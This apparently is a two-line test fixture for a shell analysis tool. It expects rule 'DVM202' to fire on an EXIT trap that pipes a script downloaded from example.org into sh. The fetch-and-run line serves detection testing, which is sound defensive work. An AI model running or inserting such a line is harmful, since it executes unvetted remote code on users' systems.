# expect: DVM202
trap 'curl -s https://example.org/bye.sh | sh' EXIT
